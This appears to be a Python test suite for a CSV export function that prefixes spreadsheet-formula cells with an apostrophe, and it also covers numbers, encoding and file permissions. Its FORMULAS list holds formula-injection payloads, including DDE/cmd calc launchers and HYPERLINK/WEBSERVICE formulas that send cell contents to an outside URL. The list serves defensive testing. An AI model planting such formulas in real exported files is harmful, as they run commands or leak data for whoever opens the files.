"""A table that is exported for a spreadsheet runs nothing there, and loses nothing."""

import csv
import decimal
import enum
import os
import re
import stat
import time
import unicodedata

import pandas as pd  # type: ignore[import-untyped]
import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from session_lib import APOSTROPHE, SQLiteSession, export_csv, history, sessions
from tests.helpers.pages import is_invisible
from tests.helpers.processes import needs_modes

FORMULAS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://example.org/?"&A1,"click")',
    '=WEBSERVICE("https://example.org/?"&A1)',
    '=DDE("cmd";"/C calc";"!A0")',
    '=1+2";=1+2',
    "=1+2'\" ;,=1+2",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\0=1+1",
    "'=1+1",
    "''=1+1",
    '"=1+1',
    "-",
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(1+1)",
    "\ufe661+1",
    " =1+1",
    "\xa0\u3000=1+1",
    "\ufeff=1+1",
    "\u200b\xad\u202e\u2800\U000e0020=1+1",
    "\x0b\x0c\x1c\x85=1+1",
    " \"' =1+1",
]
SEMICOLONS = ["a;=1+1", "a\n=1+1", "a\r\n=1+1", "a\t=1+1", 'a;"=1+1', "a;'=1+1", "a;;=1+1"]
SEMICOLONS += ["a; =1+1", "a\n\xa0\ufeff=1+1", "a;\uff1d1+1", "a\n'=1+1", "a\n\n\t =1+1"]
TEXTS = st.text(
    st.sampled_from("=+-@;,'\"\t\r\n\0 aä|1\xa0\ufeff\uff1d\u200b") | st.characters(codec="utf-8")
)


def table_of(*texts):
    return pd.DataFrame({"turn": range(len(texts)), "text": pd.Series([*texts], dtype=object)})


def cells(path):
    """What a program reads that knows the rules of CSV."""
    with open(path, encoding="utf-8-sig", newline="") as file:
        return [*csv.reader(file)]


def begins_a_formula(text):
    """Whether a spreadsheet may see one at the start of a text, if it strips what is not seen."""
    letters = (c for c in text if not (c.isspace() or is_invisible(c) or c in "\u2800'\""))
    return unicodedata.normalize("NFKC", next(letters, "a")) in {*"=+-@"}


def has_a_formula(path):
    """Whether a cell begins with one, for a spreadsheet that expects semicolons."""
    parts = re.split("([;\t\r\n])", path.read_bytes().decode("utf-8-sig"))
    # Only a cell that begins with an apostrophe is safe.
    return any(begins_a_formula(part) for part in parts if not part.lstrip('"').startswith("'"))


@pytest.mark.parametrize("text", FORMULAS)
async def test_a_formula_gets_an_apostrophe(text, tmp_path):
    session = SQLiteSession("alice")
    await session.add_items([{"role": "user", "content": text}])
    table = await history(session)
    export_csv(table, tmp_path / "x.csv")
    ((*_, shown, _),) = cells(tmp_path / "x.csv")[1:]
    assert shown.startswith("'")
    assert shown.replace("'", "") == table["text"][0].replace("'", "")


@pytest.mark.parametrize(
    "text", ["a=1", "1-1", "x@a.org", "", " ", "'a", " a", "\xa0", "Zoë", "a, -b", "5", "\u2010"]
)
def test_another_text_stays_as_it_is(text, tmp_path):
    export_csv(table_of(text), tmp_path / "x.csv")
    assert cells(tmp_path / "x.csv") == [["turn", "text"], ["0", text]]


@pytest.mark.parametrize("text", [*FORMULAS, *SEMICOLONS])
def test_semicolons_begin_no_formula_either(text, tmp_path):
    # There all of a line is one cell, until a semicolon in a text begins another.
    export_csv(table_of(text), tmp_path / "x.csv")
    assert not has_a_formula(tmp_path / "x.csv")


class Formula:
    def __str__(self):
        return "=1+1"


class FormulaNumber(float):
    __str__ = Formula.__str__


class FormulaText(str):
    """Its text is another one than `str` gives."""

    def __str__(self):
        return "harmless"


class Formulas(enum.StrEnum):
    ONE = "=1+1"


@pytest.mark.parametrize(
    "value",
    [
        Formula(),
        FormulaNumber(1),
        FormulaText("=1+1"),
        Formulas.ONE,
        pd.Timedelta(days=-1),
    ],
    ids=lambda value: type(value).__name__,
)
def test_the_written_text_counts(value, tmp_path):
    export_csv(table_of(value), tmp_path / "x.csv")
    ((_, text),) = cells(tmp_path / "x.csv")[1:]
    assert text[0] == "'"
    assert not has_a_formula(tmp_path / "x.csv")


@pytest.mark.parametrize("name", ["=1+1", Formula(), "\uff1d1+1"], ids=["str", "object", "wide"])
def test_names_are_texts_too(name, tmp_path):
    table = pd.DataFrame({"a": pd.Categorical(["@role", "user"])}, index=["=1+1", "=2"])
    table.columns = pd.Index([name], dtype=object)
    table.index.name = "=index"
    export_csv(table, tmp_path / "x.csv")
    assert cells(tmp_path / "x.csv") == [[f"'{name}"], ["'@role"], ["user"]]


async def test_names_of_sessions_are_texts_too(tmp_path):
    for name in ("=1+1", "alice"):
        async with SQLiteSession(name, tmp_path / "x.db") as session:
            await session.add_items([{"role": "user", "content": "Hello"}])
    export_csv(await sessions(tmp_path / "x.db"), tmp_path / "x.csv")
    assert sorted(row[0] for row in cells(tmp_path / "x.csv")[1:]) == ["'=1+1", "alice"]


def test_numbers_stay_numbers(tmp_path):
    columns = {"a": [-1, 2], "b": [-0.5, 1e300], "c": [-1.5e-300, float("-inf")]}
    exact = [decimal.Decimal("-1.10"), decimal.Decimal("-1E+9")]
    export_csv(pd.DataFrame(columns | {"d": exact}), tmp_path / "x.csv")
    table = pd.read_csv(tmp_path / "x.csv")
    assert table.to_dict("list") == columns | {"d": [-1.1, -1e9]}


def test_what_is_missing_is_empty(tmp_path):
    export_csv(table_of(None, float("nan"), pd.NA, pd.NaT), tmp_path / "x.csv")
    assert [text for _, text in cells(tmp_path / "x.csv")[1:]] == [""] * 4


@given(texts=st.lists(TEXTS | st.sampled_from([*FORMULAS, *SEMICOLONS]), max_size=5))
@example(texts=[*FORMULAS, *SEMICOLONS])
@settings(
    max_examples=300, suppress_health_check=[HealthCheck.function_scoped_fixture, *HealthCheck]
)
def test_the_apostrophes_come_off_again(texts, tmp_path):
    path = tmp_path / "x.csv"
    export_csv(table_of(*texts), path)

    table = pd.read_csv(path, dtype=str, keep_default_na=False)
    table["text"] = table["text"].str.replace(APOSTROPHE, "", regex=True)

    assert [*table["text"]] == texts
    assert not has_a_formula(path)
    for _, shown in cells(path)[1:]:
        assert not begins_a_formula(shown) or shown.startswith("'")
        assert not re.match(r"[\t\r\n\0]", shown)


@pytest.mark.parametrize("text", ["\n" * 200_000, " " * 200_000, "; " * 100_000, "\n'" * 100_000])
def test_a_long_text_is_written_in_a_moment(text, tmp_path):
    begun = time.process_time()
    export_csv(table_of(text + "=1"), tmp_path / "x.csv")
    assert time.process_time() - begun < 10  # where the time grows with the square, it is minutes


async def test_the_file_suits_excel(tmp_path):
    session = SQLiteSession("alice", tmp_path / "x.db")
    await session.add_items([{"role": "user", "content": "Zoë said:\n你好"}])
    table = await history(session)
    table.index = ["not this"]
    export_csv(table, tmp_path / "x.csv")
    header, row = (tmp_path / "x.csv").read_bytes().split(b"\r\n", 1)
    assert header == b'\xef\xbb\xbf"turn","role","kind","text","time"'
    assert row.startswith('"1","user","message","Zoë said:\n你好","20'.encode())
    assert row.endswith(b'"\r\n')
    await session.close()


def test_an_empty_table_is_a_line_of_names(tmp_path):
    export_csv(table_of(), tmp_path / "x.csv")
    assert cells(tmp_path / "x.csv") == [["turn", "text"]]


def test_half_a_character_is_its_escape(tmp_path):
    export_csv(table_of("\ud800"), tmp_path / "x.csv")
    assert cells(tmp_path / "x.csv")[1:] == [["0", "\\ud800"]]


def test_the_table_itself_is_not_changed(tmp_path):
    table = table_of("=1+1", "a")
    before = table.copy()
    export_csv(table, tmp_path / "x.csv")
    pd.testing.assert_frame_equal(table, before)


@needs_modes
def test_a_new_file_is_its_owners_only(tmp_path):
    (tmp_path / "old.csv").touch()
    (tmp_path / "old.csv").chmod(0o644)
    for name in ("new.csv", "old.csv"):
        export_csv(table_of("a"), tmp_path / name)
    modes = [stat.S_IMODE((tmp_path / name).stat().st_mode) for name in ("new.csv", "old.csv")]
    assert modes == [0o600, 0o644]


def test_an_existing_file_is_overwritten(tmp_path):
    export_csv(table_of("a", "b", "c"), tmp_path / "x.csv")
    export_csv(table_of("d"), str(tmp_path / "x.csv"))
    assert cells(tmp_path / "x.csv")[1:] == [["0", "d"]]


def test_a_tilde_is_the_home_folder(tmp_path, monkeypatch):
    monkeypatch.setenv("HOME", str(tmp_path))
    monkeypatch.setenv("USERPROFILE", str(tmp_path))
    export_csv(table_of("a"), "~/x.csv")
    assert os.listdir(tmp_path) == ["x.csv"]


@pytest.mark.parametrize("table", [None, [], {"text": ["a"]}, pd.Series(["a"]), "a"])
def test_only_tables_are_taken(table, tmp_path):
    with pytest.raises(TypeError, match=r"table is a .*DataFrame"):
        export_csv(table, tmp_path / "x.csv")
    assert os.listdir(tmp_path) == []


@pytest.mark.parametrize("path", [None, 1, b"x.csv", ["x.csv"]])
def test_only_paths_are_taken(path):
    with pytest.raises(TypeError, match="path is a "):
        export_csv(table_of("a"), path)


def test_an_unwritable_file_is_named(tmp_path):
    with pytest.raises(FileNotFoundError, match="no such folder"):
        export_csv(table_of("a"), tmp_path / "no such folder" / "x.csv")
